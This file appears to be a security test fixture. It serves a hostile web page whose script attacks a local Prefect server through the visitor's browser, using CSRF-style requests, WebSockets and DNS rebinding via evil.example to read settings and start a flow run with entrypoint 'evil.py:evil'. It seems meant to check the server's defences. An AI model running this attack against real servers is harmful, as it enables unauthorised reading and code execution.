"""A web site that means harm: its page tries to reach a Prefect server through the browser of whoever opens it.

It is served twice: from another loopback address, and as http://evil.example at the server's own port, a name that is pointed at the
server once the page is loaded (DNS rebinding). For the second, the browser is told that the site is its proxy.
"""

from __future__ import annotations

import http.client
import http.server
import json
import threading
from typing import Any
from urllib.parse import urlsplit

REBOUND = "evil.example"

SCRIPT = """
const api = "API", log = [];
const flow = name => JSON.stringify({name});
async function attempt(what, work) {
  try { log.push([what, await work()]); } catch (error) { log.push([what, "refused: " + error]); }
}
async function told(answer) { return answer.type == "opaque" ? "sent" : answer.status + " " + (await answer.text()).slice(0, 200); }
async function json(path, content) {
  const answer = await fetch(api + path, {method: "POST", headers: {"Content-Type": "application/json"}, body: JSON.stringify(content)});
  if (!answer.ok) throw Error(answer.status);
  return answer.json();
}
function listen(path, protocols) {
  return new Promise((done, failed) => {
    const socket = new WebSocket((api + path).replace("http", "ws"), protocols);
    socket.onopen = () => { socket.send(JSON.stringify({type: "auth", token: null})); if (!protocols.length) done("open"); };
    socket.onmessage = message => done(message.data);
    socket.onerror = socket.onclose = () => failed("closed");
  });
}
function form(name) {
  const frame = document.createElement("iframe"); frame.name = name; document.body.append(frame);
  const form = document.createElement("form");
  Object.assign(form, {action: api + "/flows/", method: "POST", enctype: "text/plain", target: name});
  const field = document.createElement("input"); field.name = '{"name": "' + name + '", "labels": {"x": "'; field.value = '"}}';
  form.append(field); document.body.append(form);
  return new Promise(done => { frame.onload = () => done("sent"); form.submit(); });
}
function script(path) {
  const element = document.createElement("script"); element.src = api + path;
  return new Promise((done, failed) => { element.onload = () => done("loaded"); element.onerror = () => failed("closed");
    document.body.append(element); });
}
(async () => {
  await attempt("read the version", async () => told(await fetch(api + "/admin/version")));
  await attempt("read the settings", async () => told(await fetch(api + "/admin/settings")));
  await attempt("read the runs", async () => JSON.stringify(await json("/flow_runs/filter", {})));
  await attempt("start a run", async () => {
    const made = await json("/flows/", {name: "by-json"});
    const deployment = await json("/deployments/", {flow_id: made.id, name: "by-json", entrypoint: "evil.py:evil"});
    return "run " + (await json("/deployments/" + deployment.id + "/create_flow_run", {})).id;
  });
  for (const [name, body] of [["by-text", flow("by-text")], ["by-blob", new Blob([flow("by-blob")])]])
    await attempt("fetch " + name, async () => told(await fetch(api + "/flows/", {method: "POST", mode: "no-cors", body})));
  await attempt("beacon", async () => "sent " + navigator.sendBeacon(api + "/flows/", new Blob([flow("by-beacon")])));
  await attempt("form", () => form("by-form"));
  await attempt("script", () => script("/admin/version"));
  if (SOCKETS) {
    await attempt("web socket", () => listen("/events/out", ["prefect"]));
    await attempt("web socket without protocol", () => listen("/events/in", []));
  }
  await fetch("/log", {method: "POST", body: JSON.stringify(log)});
})();
"""


class Site(http.server.ThreadingHTTPServer):
    """The site; `log` holds what the page it served last found out."""

    def __init__(self, server: str) -> None:
        super().__init__(("127.0.0.2", 0), Handler)
        self.target = urlsplit(server)
        self.log: list[tuple[str, str]] = []
        self.told = threading.Event()
        threading.Thread(target=self.serve_forever, daemon=True).start()

    @property
    def page(self) -> str:
        """The page as one of another loopback address."""
        return f"http://127.0.0.2:{self.server_port}/page"

    @property
    def rebound_page(self) -> str:
        """The page as one whose name is pointed at the server."""
        return f"http://{REBOUND}:{self.target.port}/page"


class Handler(http.server.BaseHTTPRequestHandler):
    """Serves the page, takes its log, and passes on what a browser sends to the server's port."""

    server: Site

    def do_GET(self) -> None:
        self._answer()

    def do_POST(self) -> None:
        self._answer()

    def _answer(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        host = urlsplit(self.path).netloc
        path = self.path.removeprefix(f"http://{host}")
        if path == "/page":
            api = f"http://{host}/api" if host else f"{self.server.target.geturl()}/api"
            script = SCRIPT.replace("API", api).replace("SOCKETS", "false" if host else "true")
            self._send(200, "text/html", f"<!DOCTYPE html><body><script>{script}</script>".encode())
        elif path == "/log":
            self.server.log = [(what, str(result)) for what, result in json.loads(body)]
            self._send(200, "text/plain", b"")
            self.server.told.set()
        elif host.startswith(REBOUND):
            self._pass_on(path, body)
        else:
            self._send(404, "text/plain", b"")

    def _pass_on(self, path: str, body: bytes) -> None:
        connection = http.client.HTTPConnection(self.server.target.hostname or "", self.server.target.port, timeout=60)
        kept = {name: value for name, value in self.headers.items() if not name.lower().startswith(("proxy-", "accept-encoding"))}
        connection.request(self.command, path, body or None, kept)
        answer = connection.getresponse()
        self._send(answer.status, answer.getheader("Content-Type", ""), answer.read())
        connection.close()

    def _send(self, status: int, kind: str, content: bytes) -> None:
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(content)))
        self.end_headers()
        self.wfile.write(content)

    def log_message(self, *_: Any) -> None:
        pass
